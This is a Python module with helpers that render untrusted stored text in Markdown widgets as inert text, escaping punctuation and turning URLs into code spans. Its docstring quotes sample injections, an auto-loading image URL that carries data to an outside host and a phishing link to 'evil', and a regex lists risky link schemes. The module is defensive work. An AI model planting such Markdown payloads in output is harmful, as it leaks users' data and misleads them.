"""Showing stored text (passages, titles, questions, answers) as inert text in Markdown widgets.

Why: documents are untrusted input. Rendered as Markdown, `![x](http://host/pixel.png?d=...)` in a
passage makes the asker's browser fetch that URL without a click, and `[Reset password](http://evil)`
becomes a phishing link under our name. Every ASCII punctuation character is backslash-escaped
(CommonMark allows that for all of them), which leaves no image, link, autolink, HTML tag, heading,
list, table, LaTeX (`$`) or Streamlit directive (`:red[...]`, `:material/x:`) active. Escaping does
not stop GFM's autolinking of bare URLs and e-mail addresses (seen in Chromium), so every
whitespace-delimited word holding a URL or an address is shown as an inline code span instead: still
readable and copyable, never a link. Line breaks are kept as hard breaks.
"""
from __future__ import annotations

import re

_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")


def inert_markdown(text: str) -> str:
    """`text` escaped so that a Markdown renderer shows exactly these characters and nothing active."""
    escaped = _escape(text or "")
    return escaped.replace("\r\n", "\n").replace("\n", "  \n")


def inert_label(text: str) -> str:
    """For one-line widget labels (expanders, buttons, captions): escaped and on one line."""
    return inert_markdown(" ".join((text or "").split()))


_HEADING = re.compile(r"^#{1,6}\s+(.+?)\s*#*\s*$")


_LINKISH = re.compile(r"://|^www\.|^[(<\[]*www\.|@[\w-]+\.|^(?:data|javascript|mailto):", re.I)


def _escape(line: str) -> str:
    out = []
    for word in re.split(r"(\s+)", line):
        if _LINKISH.search(word) and "`" not in word:
            out.append(f"`{word}`")  # a code span: GFM autolinks nothing inside it
        else:
            out.append(_PUNCTUATION.sub(r"\\\1", word))
    return "".join(out)


def inert_passage(text: str) -> str:
    """A stored chunk inside an expander: inert like `inert_markdown`, except that the chunk's own
    Markdown headings become bold lines (not page-sized headings), so a passage reads as in its document."""
    lines = []
    for line in (text or "").replace("\r\n", "\n").split("\n"):
        heading = _HEADING.match(line)
        lines.append("**" + _escape(heading.group(1)) + "**" if heading else _escape(line))
    return "  \n".join(lines)
